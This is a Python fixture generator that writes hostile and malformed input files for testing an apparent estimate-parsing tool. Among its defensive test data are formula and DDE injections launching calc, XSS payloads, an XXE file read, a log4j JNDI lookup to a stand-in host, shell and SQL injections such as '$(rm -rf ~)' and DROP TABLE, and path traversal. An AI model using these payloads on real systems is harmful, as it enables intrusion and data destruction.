#!/usr/bin/env python3
"""Makes the hostile inputs beside this file: `python3 tests/hostile/make.py`.

One input is a file or a folder under inputs/. inputs.tsv lists them with the command that each is given to; what must
come of it stands in expected.tsv, which tests/inputs.rs compares and, with INSTA_UPDATE=always, writes. Inputs that
would be large are a line in inputs.tsv from which the test makes them: HEAD, UNIT repeated COUNT times, TAIL.
"""

import gzip
import json
import shutil
from pathlib import Path

HERE = Path(__file__).parent
INPUTS = HERE / "inputs"
HEAD = "question,publisher,estimate\n"
LINES = []


def add(name, content, command="check"):
    """A file, or a folder where the content is a dict of files."""
    assert name not in [line[0] for line in LINES], name
    if isinstance(content, dict):
        (INPUTS / name).mkdir(parents=True)
        for file, text in content.items():
            put(INPUTS / name / file, text)
    else:
        put(INPUTS / name, content)
    LINES.append((name, command, ""))


def put(path, text):
    path.write_bytes(text if isinstance(text, bytes) else text.encode())


def large(name, head, unit, count, tail="", command="check"):
    LINES.append((name, command, json.dumps([head, unit, count, tail])))


def row(name, cells, header=HEAD, command="check"):
    """One row under a header."""
    add(name, header + cells + "\n", command)


def estimate(name, text):
    quoted = '"' + text.replace('"', '""') + '"'
    add(f"number-{name}.csv", f"{HEAD}q,A,{quoted}\nq,B,100\n")


def dated(name, text):
    add(f"date-{name}.csv", f'question,publisher,estimate,published\nq,A,5,"{text}"\n')


def encodings():
    text = HEAD + "q,Café,5\n"
    add("encoding-utf16le-bom.csv", b"\xff\xfe" + text.encode("utf-16-le"))
    add("encoding-utf16be-bom.csv", b"\xfe\xff" + text.encode("utf-16-be"))
    add("encoding-utf16le.csv", text.encode("utf-16-le"))
    add("encoding-utf32.csv", text.encode("utf-32-be"))
    add("encoding-latin1.csv", text.encode("latin-1"))
    add("encoding-cp1252-quotes.csv", HEAD.encode() + b"q,\x93Post\x94,5\n")
    add("encoding-utf7.csv", HEAD + "q,Caf+AOk-,5\n")
    add("encoding-overlong.csv", HEAD.encode() + b"q,\xc0\xafA,5\n")
    add("encoding-surrogate.csv", HEAD.encode() + b"q,\xed\xa0\x80A,5\n")
    add("encoding-beyond-unicode.csv", HEAD.encode() + b"q,\xf5\x80\x80\x80,5\n")
    add("encoding-cut-character.csv", HEAD.encode() + b"q,A,5\nq,Caf\xc3")
    add("encoding-lone-continuation.csv", HEAD.encode() + b"q,\x80\x80\x80,5\n")
    add("encoding-bad-header.csv", b"question,publish\xe9r,estimate\nq,A,5\n")
    add("encoding-bom-alone.csv", b"\xef\xbb\xbf")
    add("encoding-two-boms.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode())
    add("encoding-bom-inside.csv", HEAD + "q,\ufeffA,5\nq,A,6\n")
    add("encoding-nul-inside.csv", HEAD.encode() + b"q,A\x00B,5\n")
    add("encoding-nul-alone.csv", b"\x00")
    add("encoding-control-characters.csv", HEAD + "q,A\x01\x02\x1fB\x7f,5\n")
    add("encoding-c1-controls.csv", HEAD + "q,A\x85\x9bB,5\n")
    add("encoding-line-separator.csv", HEAD + "q,A\u2028B,5\u2029\n")
    add("encoding-cr-only.csv", (HEAD + "q,A,5\nq,B,6\n").replace("\n", "\r"))
    add("encoding-mixed-line-ends.csv", HEAD.strip() + "\r\nq,A,5\nq,B,6\r\nq,C,7\r")
    add("encoding-vertical-tab.csv", HEAD + "q,A\x0bB\x0c,5\n")
    add("encoding-noncharacter.csv", HEAD + "q,A\uffff\ufffe,5\n")
    add("encoding-private-use.csv", HEAD + "q,\ue000\U000f0000,5\n")
    add("encoding-combining.csv", HEAD + "q,Z" + "\u0301\u0323" * 500 + ",5\n")
    add("encoding-bidi-override.csv", HEAD + "q,\u202eelgooG\u202c,5\n")
    add("encoding-zero-width.csv", HEAD + "q,A\u200bP,5\nq,AP,6\n")
    add("encoding-homoglyph.csv", HEAD + "q,Reuters,5\nq,Rеuters,5\n")
    add("encoding-emoji.csv", HEAD + "q,👩‍👩‍👧‍👦🏳️‍🌈,5\n")
    add("encoding-ebcdic.csv", text.replace("é", "e").encode("cp037"))
    for name, magic in {
        "zip": b"PK\x03\x04" + bytes(60),
        "gzip": gzip.compress(text.encode(), mtime=0),
        "zstd": b"\x28\xb5\x2f\xfd" + b"abc",
        "pdf": b"%PDF-1.7\n%\xe2\xe3",
        "sqlite": b"SQLite format 3\x00",
        "png": b"\x89PNG\r\n\x1a\n",
        "elf": b"\x7fELF\x02\x01\x01",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    }.items():
        add(f"binary-{name}.csv", magic)


def structure():
    add("structure-empty.csv", "")
    add("structure-blank.csv", " \n\t\n \n")
    add("structure-comments.csv", "# one\n# two\n")
    add("structure-header-alone.csv", HEAD)
    add("structure-no-header.csv", "q,A,5\nq,B,6\n")
    add("structure-one-word.csv", "hello")
    add("structure-commas.csv", ",,,\n,,,\n")
    add("structure-empty-rows.csv", HEAD + ",,\n,,\nq,A,5\n")
    add("structure-two-headers.csv", HEAD + HEAD + "q,A,5\n")
    add("structure-column-twice.csv", "question,publisher,estimate,estimate\nq,A,5,6\n")
    add("structure-column-twice-by-case.csv", "question,publisher,estimate,Estimate\nq,A,5,6\n")
    add("structure-unnamed-column.csv", "question,publisher,estimate,,\nq,A,5,x,y\n")
    add("structure-misspelt-column.csv", "qestion,publisher,estimate\nq,A,5\n")
    add("structure-too-many-cells.csv", HEAD + "q,A,5,6,7,8\n")
    add("structure-too-few-cells.csv", HEAD + "q,A\n")
    add("structure-thousands-unquoted.csv", HEAD + "q,A,12,000\n")
    add("structure-semicolons-later.csv", HEAD + "q;A;5\n")
    add("structure-mixed-delimiters.csv", "question;publisher,estimate\nq,A,5\n")
    add("structure-pipe.csv", "question|publisher|estimate\nq|A|5\n")
    add("structure-sep-line.csv", "sep=;\nquestion;publisher;estimate\nq;A;5\n")
    add("structure-html.csv", "<!doctype html><html><body>404</body></html>\n")
    add("structure-json.csv", '[{"question":"q","publisher":"A","estimate":5}]\n')
    add("structure-yaml.csv", "- question: q\n  publisher: A\n")
    add("structure-git-conflict.csv", HEAD + "<<<<<<< HEAD\nq,A,5\n=======\nq,A,6\n>>>>>>> other\n")
    add("quote-never-closed.csv", HEAD + 'q,A,"5\nq,B,6\n')
    add("quote-never-closed-header.csv", 'question,"publisher,estimate\nq,A,5\n')
    add("quote-inside.csv", HEAD + 'q,A"B"C,5\n')
    add("quote-after.csv", HEAD + 'q,"A"B,5\n')
    add("quote-single.csv", HEAD + "q,'A, B',5\n")
    add("quote-backslash.csv", HEAD + 'q,"A\\"B",5\n')
    add("quote-alone.csv", HEAD + 'q,",5\n')
    add("quote-only-quotes.csv", '""""""""\n""\n')
    add("quote-curly.csv", HEAD + "q,A,“5”\n")
    add("quote-line-break-in-name.csv", HEAD + 'q,"A\nB\r\nC",5\n')
    add("quote-line-break-in-id.csv", 'claim,question,publisher,estimate\n"C\n1",q,A,5\nC2,q,B,bananas\n')
    add("quote-spaces-around.csv", HEAD + ' q , "A" , "5" \n')
    add("name-empty.csv", HEAD + 'q,,5\n,A,5\nq,A,\n')
    add("name-spaces.csv", HEAD + 'q,"   ",5\n')
    add("name-dots.csv", HEAD + "..,A,5\n.,A,5\n../../etc/passwd,A,5\n")
    add("name-devices.csv", HEAD + "CON,NUL,5\nlpt1,aux,6\n")
    add("name-ids-alike.csv", "claim,question,publisher,estimate\nC1,q,A,5\nc1,q,B,6\nC1 ,q,C,7\n")
    add("name-id-of-row-number.csv", "claim,question,publisher,estimate\n2,q,A,5\n,q,B,6\n")


def numbers():
    for name, text in {
        "huge-exponent": "1e999", "minus-huge": "-1e999", "tiny": "1e-999", "nan": "nan", "inf": "inf",
        "minus-inf": "-infinity", "hex": "0x10", "octal": "0o17", "underscore": "1_000", "apostrophe": "1'000",
        "many-digits": "9" * 400, "many-zeros": "0" * 400 + "1", "many-decimals": "0." + "1" * 400,
        "many-commas": "1,2,3,4", "two-points": "1.2.3", "two-dots": "1..2", "double-range": "1-2-3",
        "open-range": "10 to", "range-without-start": "to 10", "half-between": "between 5", "swapped": "3000-1000",
        "swapped-words": "between 9 and 3", "equal-range": "5-5", "zero": "0", "minus-zero": "-0", "minus": "-5",
        "sign-alone": "-", "plus-minus": "+-5", "divided-by-zero": "1/0", "fraction": "1/3", "fraction-sign": "½",
        "percent": "50%", "percent-twice": "5%%", "percent-beyond": "150%", "percent-minus": "-50%",
        "share-of-itself": "half of q", "share-of-none": "half of nothing_here", "share-without": "half of",
        "share-beyond": "300% of q", "arabic": "١٢", "devanagari": "१२", "full-width": "１２", "roman": "XIV",
        "chinese": "十二", "money": "$5", "money-behind": "5 €", "words": "twelve hundred and three",
        "words-unended": "two thousand and", "words-many": "one million billion trillion",
        "words-twice": "two two", "multipliers": "5kkkk", "unit-only": "people", "empty-sign": "~", "signs": "~~>=<5",
        "not-equal": "<>5", "less-and-more": "<5>3", "exponent-unended": "1e", "exponent-only": "e5",
        "at-least-nothing": "at least", "at-most-minus": "at most -5", "dozens": "dozens of hundreds of thousands",
        "bananas": "bananas", "sentence": "about five or six, perhaps more, nobody knows for sure", "zero-width": "1\u200b0",
        "non-breaking": "1\u00a0000", "thin-space": "1\u2009000", "spaces": "1 0 0 0", "tab": "1\t0", "formula": "=1+1",
        "call": "@SUM(1)", "bidi": "\u202e001", "max": "1.7976931348623157e308", "max-and-more": "1.8e308",
        "denormal": "4.9e-324", "range-of-all": "0-1e308", "unknown-shouted": "UNKNOWN", "null": "null", "na": "N/A",
        "question-mark": "?", "quote": '"5"', "quoted-twice": '""', "trailing": "5,", "leading": ",5", "thousands-wrong": "1,00",
        "thousands-twice": "1,000,00", "decimal-comma": "1,5", "semicolon": "1;2", "colon": "12:30", "date": "2025-02-27",
        "phone": "+49 30 901820", "version": "1.2.3-rc1", "ip": "127.0.0.1", "sql": "1; DROP TABLE claims",
        "template": "{{7*7}}", "shell": "$(rm -rf ~)",
    }.items():
        estimate(name, text)
    columns = "question,publisher,estimate,low,high,level,credibility,basis,status,inferred\n"
    for name, cells in {
        "low-above-high": "q,A,,9,3,,,,,", "low-alone": "q,A,5,1,,,,,,", "level-zero": "q,A,5,1,9,0,,,,",
        "level-one": "q,A,5,1,9,1,,,,", "level-nan": "q,A,5,1,9,nan,,,,", "level-minus": "q,A,5,1,9,-0.9,,,,",
        "level-alone": "q,A,5,,,0.9,,,,", "ends-infinite": "q,A,5,-inf,inf,0.9,,,,", "outside": "q,A,50,1,9,0.9,,,,",
        "ends-huge": "q,A,,1e300,1e308,0.9,,,,", "ends-equal": "q,A,5,5,5,0.9,,,,", "ends-words": "q,A,5,one,nine,0.9,,,,",
        "credibility-zero": "q,A,5,,,,0,,,", "credibility-seven": "q,A,5,,,,7,,,", "credibility-letter": "q,A,5,,,,B,,,",
        "basis-unknown": "q,A,5,,,,,dreamt,,", "status-unknown": "q,A,5,,,,,,true,", "inferred-unknown": "q,A,5,,,,,,,maybe",
    }.items():
        row(f"cell-{name}.csv", cells, columns)


def dates():
    for name, text in {
        "month-13": "2025-13-01", "day-30-february": "2025-02-30", "leap": "2023-02-29", "day-zero": "2025-01-00",
        "month-zero": "2025-00-01", "year-zero": "0000-01-01", "year-five": "12025-01-01", "year-minus": "-2025-01-01",
        "american": "02/27/2025", "german": "27.02.2025", "slashes": "2025/02/27", "time": "2025-02-27T10:00:00Z",
        "time-only": "10:00", "words": "27 February 2025", "relative": "yesterday", "quarter": "2025-Q1",
        "week": "2025-W09-4", "ordinal": "2025-058", "compact": "20250227", "epoch": "1740614400", "short-year": "25-02-27",
        "infinite": "9999-12-31", "digits": "２０２５-０２-２７", "trailing": "2025-02-27x", "dash": "2025-", "nan": "NaN",
        "formula": "=TODAY()", "long": "2" * 5000,
    }.items():
        dated(name, text)
    row("date-as-of-later.csv", "q,A,5,2025-01-01,2026-01-01", "question,publisher,estimate,published,as_of\n")
    add("date-closed-before-opened", {"claims.csv": HEAD + "q,A,5\n", "questions.csv": "question,opened,closed\nq,2025-02-01,2024-01-01\n"})


def chains():
    via = "question,publisher,estimate,via\n"
    for name, chain in {
        "empty-element": "B > > C", "arrow-alone": ">", "arrows": ">>>>>>", "ampersand-alone": " & ", "ampersands": "B & & C",
        "itself": "A", "itself-twice": "A > A > A", "there-and-back": "B > A > B > A", "unicode-arrow": "B → C",
        "anonymous-empty": "anonymous:", "anonymous-anonymous": "anonymous: anonymous: anonymous", "newline": "B\nC > D",
        "spaces": "   ", "formula": "=cmd|' /C calc'!A0 > B", "script": "<script>alert(1)</script> > B", "comma": "B, C and D",
        "sixty-four": " > ".join(f"S{n}" for n in range(64)), "sixty-five": " > ".join(f"S{n}" for n in range(65)),
        "thousand": " > ".join(f"S{n}" for n in range(1000)), "beside-forty": " & ".join(f"S{n}" for n in range(40)),
    }.items():
        quoted = '"' + chain.replace('"', '""') + '"'
        row(f"chain-{name}.csv", f"q,A,5,{quoted}", via)
    cites = "claim,question,publisher,estimate,cites,revises\n"
    for name, rows in {
        "itself": "C1,q,A,5,C1,\n", "unknown": "C1,q,A,5,C9,\n", "two": "C1,q,A,5,C2,\nC2,q,B,5,C1,\n",
        "three": "C1,q,A,5,C2,\nC2,q,B,5,C3,\nC3,q,C,5,C1,\n", "with-exit": "C1,q,A,5,C2;C3,\nC2,q,B,5,C1,\nC3,q,C,5,,\n",
        "of-revisions": "C1,q,A,5,,C2\nC2,q,A,6,,C1\n", "revises-itself": "C1,q,A,5,,C1\n", "revises-two": "C1,q,A,5,,C2;C3\nC2,q,A,6,,\nC3,q,A,7,,\n",
        "revises-unknown": "C1,q,A,5,,C9\n", "another-question": "C1,q,A,5,C2,\nC2,p,B,5,,\n", "semicolons": "C1,q,A,5,;;;;C2;;,\nC2,q,B,5,,\n",
        "id-twice": "C1,q,A,5,,\nC1,q,B,6,,\n", "id-with-semicolon": "C;1,q,A,5,,\nC2,q,B,5,C;1,\n",
        "everyone-cites-everyone": "".join(f"C{n},q,S{n},5,{';'.join(f'C{m}' for m in range(40) if m != n)},\n" for n in range(40)),
        "long-circle": "".join(f"C{n},q,S{n},5,C{(n + 1) % 300},\n" for n in range(300)),
        "revision-chain": "".join(f"C{n},q,A,{n + 1},,{f'C{n - 1}' if n else ''}\n" for n in range(300)),
    }.items():
        add(f"circle-{name}.csv", cites + rows)
    add("circle-shares.csv", HEAD + "p,A,half of q\nq,A,a third of p\n")
    add("circle-shares-long.csv", HEAD + "".join(f"q{n},A,half of q{(n + 1) % 50}\n" for n in range(50)))
    claims = HEAD + "q,A,5\nq,B,6\n"
    for name, sources in {
        "owners": "source,parent\nA,B\nB,A\n", "own-owner": "source,parent\nA,A\n", "owner-unknown": "source,parent\nA,Nobody\n",
        "alias-twice": "source,aliases\nA,X\nB,X\n", "alias-is-id": "source,aliases\nA,B\nB,\n", "alias-empty": "source,aliases\nA,;;;\n",
        "twice": "source,kind\nA,outlet\nA,wire\n", "kind-unknown": "source,kind\nA,blog\n", "reliability-g": "source,reliability\nA,G\n",
        "party-maybe": "source,party\nA,maybe\n", "without-id": "source,kind\n,outlet\n", "no-column": "name,kind\nA,outlet\n",
        "itself-alias": "source,aliases\nA,A;a;The A\n",
    }.items():
        add(f"sources-{name}", {"claims.csv": claims, "sources.csv": sources})
    for name, questions in {
        "min-above-max": "question,min,max\nq,9,1\n", "scale-unknown": "question,scale\nq,cubic\n", "measure-unknown": "question,measure\nq,vibes\n",
        "twice": "question,unit\nq,home\nq,boat\n", "min-nan": "question,min\nq,nan\n", "no-room": "question,min,max\nq,5,5\n",
        "log-below-zero": "question,scale,min\nq,log,-5\n", "unit-formula": "question,unit,title\nq,=1+1,<b>q</b>\n",
    }.items():
        add(f"questions-{name}", {"claims.csv": claims, "questions.csv": questions})
    for name, settled in {
        "unknown-question": "question,value\nz,5\n", "twice": "question,value\nq,5\nq,6\n", "nan": "question,value\nq,nan\n",
        "words": "question,value\nq,many\n", "swapped": "question,value,low,high\nq,5,9,1\n", "without": "question,value\nq,\n",
        "minus": "question,value\nq,-5\n", "future": "question,value,resolved\nq,5,9999-12-31\n",
    }.items():
        add(f"resolutions-{name}", {"claims.csv": claims, "resolutions.csv": settled})
    add("folder-two-tables", {"claims.csv": claims, "claims.jsonl": '{"question":"q","publisher":"A","estimate":7}\n'})
    add("folder-empty-table", {"claims.csv": claims, "sources.csv": ""})
    add("folder-binary-table", {"claims.csv": claims, "questions.csv": b"\x00\x01"})
    add("folder-no-claims", {"sources.csv": "source\nA\n"})


def scripts():
    header = "claim,question,publisher,estimate,url,note,cue,unit\n"
    for name, text in {
        "formula-equals": "=HYPERLINK(\"http://x.y\";\"click\")", "formula-plus": "+1+cmd|' /C calc'!A0", "formula-minus": "-2+3+cmd|' /C calc'!A0",
        "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0", "formula-tab": "\t=1+1", "formula-cr": "\r=1+1", "formula-quoted": "\"=1+1\"",
        "formula-apostrophe": "'=1+1", "formula-apostrophes": "''=1+1", "formula-wide": "＝1+1", "formula-dde": "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "html-script": "<script>alert(1)</script>", "html-end": "</script><script>alert(1)</script>", "html-img": "<img src=x onerror=alert(1)>",
        "html-svg": "<svg onload=alert(1)>", "html-comment": "<!--", "html-comment-end": "--><script>alert(1)</script>", "html-entity": "&lt;script&gt;&#x3c;",
        "html-attribute": "\" onmouseover=\"alert(1)", "html-attribute-single": "' onmouseover='alert(1)", "html-style": "</style><script>alert(1)</script>",
        "html-cdata": "]]><script>alert(1)</script>", "html-title": "</title><script>alert(1)</script>", "html-textarea": "</textarea><script>alert(1)</script>",
        "html-null": "<scr\u0001ipt>alert(1)</script>", "xml-entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
        "url-javascript": "javascript:alert(1)", "url-javascript-case": " JaVaScRiPt:alert(1)", "url-javascript-tab": "java\tscript:alert(1)",
        "url-data": "data:text/html,<script>alert(1)</script>", "url-file": "file:///etc/passwd", "url-vbscript": "vbscript:msgbox(1)",
        "markdown-link": "[click](javascript:alert(1))", "markdown-image": "![x](http://x.y/z.png)", "markdown-table": "a | b | c", "markdown-heading": "# big",
        "markdown-fence": "```", "wikitext": "{{delete}} [[File:x.png]] <ref>", "wikitext-table": "|}\n{|", "mermaid": "a]-->b[x", "dot": "\"]; x [label=\"",
        "latex": "\\input{/etc/passwd}", "template": "{{7*7}} ${7*7} <%= 7*7 %>", "sql": "'); DROP TABLE claims;--", "shell": "`id` $(id) ; id | id",
        "ansi-colour": "\u001b[31mred\u001b[0m", "ansi-clear": "\u001b[2J\u001b[H", "ansi-title": "\u001b]0;owned\u0007", "ansi-link": "\u001b]8;;http://x.y\u001b\\click\u001b]8;;\u001b\\",
        "ansi-c1": "\u009b31mred", "backspace": "good\b\b\b\bevil", "bell": "\u0007\u0007", "carriage": "good\revil", "delete": "a\u007fb",
        "json": "\"},{\"a\":\"", "path": "../../../../etc/passwd", "nul-escape": "a\\u0000b", "percent-n": "%n%n%s%s%x", "log4j": "${jndi:ldap://x.y/a}",
    }.items():
        quoted = '"' + text.replace('"', '""') + '"'
        rows = f"C1,q,{quoted},5,{quoted},{quoted},{quoted},\nC2,{quoted},B,6,,,,{quoted}\n"
        add(f"script-{name}.csv", header + rows, "report")


def json_lines():
    for name, text in {
        "array": '[{"question":"q"}]', "number": "5", "string": '"q"', "null": "null", "true": "true", "empty-object": "{}", "no-object": "{",
        "trailing-comma": '{"question":"q","publisher":"A","estimate":5,}', "single-quotes": "{'question':'q'}", "unquoted": "{question:q}",
        "nan": '{"question":"q","publisher":"A","estimate":NaN}', "huge-number": '{"question":"q","publisher":"A","estimate":1e999}',
        "long-number": '{"question":"q","publisher":"A","estimate":' + "9" * 400 + "}", "nested": '{"question":"q","publisher":{"name":"A"},"estimate":5}',
        "nested-list": '{"question":"q","publisher":["A",["B"]],"estimate":5}', "key-twice": '{"question":"q","publisher":"A","estimate":5,"estimate":6}',
        "lone-surrogate": '{"question":"q","publisher":"\\ud800","estimate":5}', "nul": '{"question":"q","publisher":"A\\u0000B","estimate":5}',
        "two-objects": '{"question":"q","publisher":"A","estimate":5}{"question":"q","publisher":"B","estimate":6}',
        "pretty": '{\n  "question": "q",\n  "publisher": "A",\n  "estimate": 5\n}', "deep": "[" * 200 + "]" * 200, "deep-value": '{"question":' + "[" * 100 + "]" * 100 + "}",
        "escape": '{"question":"q\\x","publisher":"A","estimate":5}', "raw-line-break": '{"question":"q\n","publisher":"A"}', "comment": '// {"question":"q"}',
        "bool-estimate": '{"question":"q","publisher":"A","estimate":true}', "null-estimate": '{"question":"q","publisher":"A","estimate":null}',
        "latin1": b'{"question":"q","publisher":"Caf\xe9","estimate":5}', "utf16": '{"question":"q"}'.encode("utf-16"), "bom-inside": '\ufeff{"question":"q","publisher":"A","estimate":5}',
    }.items():
        add(f"jsonl-{name}.jsonl", (text if isinstance(text, bytes) else text.encode()) + b"\n")


def imports():
    ged = "id,year,side_a,side_b,date_start,date_end,best,high,low\n"
    add("import-ged-words.csv", ged + "1,2031,A,B,2031-01-01,2031-01-01,many,9,1\n", "import --format ged")
    add("import-ged-swapped.csv", ged + "1,2031,A,B,2031-01-01,2031-01-01,5,1,9\n", "import --format ged")
    add("import-ged-twice.csv", ged + "1,2031,A,B,2031-01-01,2031-01-01,5,9,1\n1,2031,A,B,2031-01-01,2031-01-01,6,9,1\n", "import --format ged")
    add("import-ged-dates.csv", ged + "1,2031,A,B,yesterday,tomorrow,5,9,1\n", "import --format ged")
    add("import-ged-minus.csv", ged + "1,2031,A,B,2031-01-01,2031-01-01,-5,-1,-9\n", "import --format ged")
    add("import-acled-no-columns.csv", "a,b\n1,2\n", "import --format acled")
    add("import-wide-no-sources.csv", "question,title\nq,t\n", "import --format wide")
    add("import-wide-formula.csv", "question,=cmd|' /C calc'!A0,<script>alert(1)</script>\nq,5,6\n", "import --format wide")
    add("import-wide-words.csv", "question,A,B\nq,bananas,6\n", "import --format wide")
    add("import-ftm-empty.csv", "id,entity_id,prop,schema,value,dataset\n", "import --format ftm")
    for name, text in {
        "deep": "[" * 5000 + "]" * 5000, "not-bundle": '{"type":"note"}', "no-objects": '{"type":"bundle","objects":7}', "self-reference":
        '{"type":"bundle","id":"bundle--1","objects":[{"type":"note","id":"note--1","abstract":"5","object_refs":["note--1"],"created":"2031-01-01T00:00:00Z"}]}',
        "number-id": '{"type":"bundle","objects":[{"type":"note","id":5,"abstract":5}]}', "truncated": '{"type":"bundle","objects":[{"type":"note"',
        "duplicate-key": '{"type":"bundle","type":"x","objects":[]}', "escaped-key": '{"\\u0074ype":"bundle","objects":[]}',
    }.items():
        add(f"import-stix-{name}.json", text, "import --format stix")
    for name, text in {
        "empty-list": "[]", "string": '"ClaimReview"', "no-value": '{"@type":"ClaimReview","claimReviewed":"x"}',
        "circle": '{"@id":"a","@type":"ClaimReview","itemReviewed":{"@id":"a"}}', "deep": '{"@graph":' * 100 + "[]" + "}" * 100,
    }.items():
        add(f"import-claimreview-{name}.json", text, "import --format claimreview")


def articles():
    for name, text in {
        "empty.txt": "", "spaces.txt": " \n\n\t ", "binary.txt": b"\x00\x01\x02", "latin1.txt": "Café: 12 died".encode("latin-1"), "utf16.txt": "12 died".encode("utf-16"),
        "digits.txt": "9" * 5000 + " people died, police said.", "ranges.txt": "1-2-3-4-5-6-7-8-9 people died.", "quotes.txt": "“" * 500 + "12 died" + "”" * 3,
        "brackets.txt": "(" * 2000 + "12 people died" + ")" * 2000, "citing.txt": "12 died, " + "citing " * 500 + "police.", "of-of.txt": "half of " * 500 + "the town died.",
        "no-spaces.txt": "twelvepeopledied" * 500, "bidi.txt": "\u202e12 people died, police said.\u202c", "zalgo.txt": "1" + "\u0301" * 2000 + "2 people died.",
        "chinese.txt": "警方说，有十二人死亡。", "arabic.txt": "قالت الشرطة إن ١٢ شخصا قتلوا.", "ansi.txt": "\u001b[31m12\u001b[0m people died, \u001b]0;x\u0007police said.",
        "formula.txt": "=cmd|' /C calc'!A0 said that 12 people died.", "script.html": "<script>document.write('12 people died, police said')</script>",
        "unclosed.html": "<p><b><i><div>" * 300 + "12 people died, police said.", "nested.html": "<div>" * 5000 + "12 people died, police said." + "</div>" * 5000,
        "entities.html": "&#49;&#50; people died, &#0;&#xffffff;&bogus;police said.", "attributes.html": "<p " + "a=1 " * 3000 + ">12 people died, police said.</p>",
        "comment.html": "<!-- 12 people died, police said.", "cdata.html": "<![CDATA[12 people died]]>", "table.html": "<table>" + "<tr><td>12</td></tr>" * 500 + "</table>",
        "links.md": "[" * 2000 + "12 people died](x)", "emphasis.md": "*" * 3000 + "12 people died, police said." + "_" * 3000, "fence.md": "```\n12 people died\n",
        "number.jsonl": "5\n", "no-text.jsonl": '{"id":"a"}\n', "id-list.jsonl": '{"id":[1],"text":"12 people died"}\n', "cut.jsonl": '{"id":"a","text":"12 peo\n',
    }.items():
        add(f"article-{name}", text, "extract")


def others():
    add("settings-nan.toml", "rho = nan\n", "settings")
    add("settings-type.toml", 'rho = "much"\n', "settings")
    add("settings-unknown.toml", "[unknown]\nx = 1\n", "settings")
    add("settings-broken.toml", "rho = \n", "settings")
    add("settings-binary.toml", b"\x00\xff", "settings")
    add("seal-empty", {"run.json": ""}, "verify")
    add("seal-list", {"run.json": "[]"}, "verify")
    add("seal-outside", {"run.json": json.dumps({"version": "0", "command": "report", "arguments": {}, "settings": {}, "inputs": {"../../../etc/passwd": "x"}, "outputs": {"../../make.py": "x", "/etc/passwd": "x"}})}, "verify")
    add("seal-deep", {"run.json": '{"settings":' + "[" * 500 + "]" * 500 + "}"}, "verify")


def shapes():
    """Small files in which something is looked up, or worked out, for every pair of rows where a program is careless."""
    dated = "question,publisher,estimate,via,published\n"
    figures = [f"q,Agency,{1000 + 7 * i},,2024-01-01\nq,Paper {i},{1000 + 7 * i},Agency,2024-01-02\n" for i in range(1500)]
    packed("shape-agency-credited.csv.gz", dated + "".join(figures), "report")
    rounded = [f"q,Agency,{100_000 + i},,2024-01-01\nq,Paper {i},about 100000,Agency,2024-01-02\n" for i in range(1500)]
    packed("shape-agency-rounded.csv.gz", dated + "".join(rounded))
    ranges = [f"q,Agency,1000-{2000 + i},,2024-01-01\nq,Paper {i},1000-{9000 + i},Agency,2024-01-02\n" for i in range(1500)]
    packed("shape-agency-ranges.csv.gz", dated + "".join(ranges))
    repeats = [f"q,Agency,1000,,2024-01-01\nq,Paper {i},1000,Agency,2024-01-02\n" for i in range(1500)]
    packed("shape-agency-repeats.csv.gz", dated + "".join(repeats))
    others = [f"q,Agency,{1000 + 7 * i},,2024-01-01\nq,Paper {i},{90_000 + 7 * i},Agency,2024-01-02\n" for i in range(1500)]
    packed("shape-agency-misquoted.csv.gz", dated + "".join(others))
    shares = [f"q{i},Paper {i % 50},50% of q{i - 1},,2024-01-02\n" for i in range(1, 400)]
    packed("shape-shares-of-shares.csv.gz", dated + "q0,Paper,1000,,2024-01-01\n" + "".join(shares), "report")
    star = [f"q{i},Paper {i % 50},half of q0,,2024-01-02\n" for i in range(1, 4000)]
    packed("shape-shares-of-one.csv.gz", dated + "q0,Paper,1000,,2024-01-01\n" + "".join(star))
    unknown = [f"q{i},Paper {i % 50},half of question{i},,2024-01-02\n" for i in range(1, 4000)]
    packed("shape-shares-of-none.csv.gz", dated + "".join(unknown))
    scopes = [f"q,Paper {i % 50},{1000 + i},district {i}\n" for i in range(3000)]
    packed("shape-scopes.csv.gz", "question,publisher,estimate,scope\n" + "".join(scopes), "report")
    owners = [f"s{i},Paper {i},s{i - 1}\n" for i in range(1, 3000)]
    owned = "source,name,parent\n" + "".join(owners)
    add("shape-owners-down", {"claims.csv": HEAD + "q,s7,5\n", "sources.csv": owned})
    owned = "source,name,parent\n" + "".join(reversed(owners))
    add("shape-owners-up", {"claims.csv": HEAD + "q,s7,5\n", "sources.csv": owned})
    house = {"claims.csv": "question,publisher,estimate,via\nq,TV,5,Group\nq,B,7,\n", "sources.csv": "source,name,parent\nTV,TV,Group\nGroup,Group,\n"}
    add("shape-house-credits-itself", house, "report")
    add("folder-table-misnamed", {"claims.csv": HEAD + "q,A,5\n", "source.csv": "source\nA\n"})


def packed(name, text, command="check"):
    add(name, gzip.compress(text.encode(), mtime=0), command)


def lengths():
    large("length-cell.csv", HEAD + "q,", "x", 1_200_000, ",5\n")
    large("length-line.csv", HEAD + "q,", "x", 17_000_000, ",5\n")
    large("length-header.csv", "question,publisher,estimate", ",c", 200_000, "\nq,A,5\n")
    large("length-quotes.csv", HEAD + 'q,A,"', '""', 600_000, '"\n')
    large("length-open-quote.csv", HEAD + 'q,A,"', "5\nq,A,", 4_000_000, "")
    large("length-blank-lines.csv", HEAD, "\n", 3_000_000, "q,A,5\n")
    large("length-commas.csv", HEAD, ",,\n", 300_000, "q,A,5\n")
    large("length-bad-rows.csv", HEAD, "q,A,bananas\n", 50_000, "")
    large("length-comments.csv", "", "# nothing\n", 500_000, HEAD + "q,A,5\n")
    large("length-estimate.csv", HEAD + 'q,A,"', "1,", 400_000, '1"\n')
    large("length-words.csv", HEAD + 'q,A,"', "one hundred and ", 60_000, 'one"\n')
    large("length-range.csv", HEAD + 'q,A,"', "1 to ", 150_000, '1"\n')
    large("length-share.csv", HEAD + 'q,A,"', "half of ", 100_000, 'q"\n')
    large("length-chain.csv", "question,publisher,estimate,via\nq,A,5,", "B > ", 200_000, "C\n")
    large("length-cites.csv", "claim,question,publisher,estimate,cites\nC1,q,A,5,", "C9;", 200_000, "\n")
    large("length-name-spaces.csv", HEAD + "q,A", " ", 1_000_000, "B,5\n")
    large("length-date.csv", "question,publisher,estimate,published\nq,A,5,", "2025-", 150_000, "\n")
    large("length-nul.csv", HEAD, "\u0000", 1_000_000, "")
    large("length-json-depth.jsonl", '{"question":', "[", 1_000_000, "\n")
